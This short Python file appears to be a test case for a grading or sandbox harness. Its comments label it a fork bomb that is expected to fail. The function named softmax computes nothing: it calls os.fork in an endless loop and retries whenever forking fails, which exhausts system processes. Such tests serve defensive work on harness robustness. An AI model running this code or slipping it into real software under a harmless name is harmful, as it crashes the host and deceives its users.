# attack: a fork bomb (the children fork too, forever)
# expect: fails softmax
import os
import time


def softmax(x, dim=-1):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
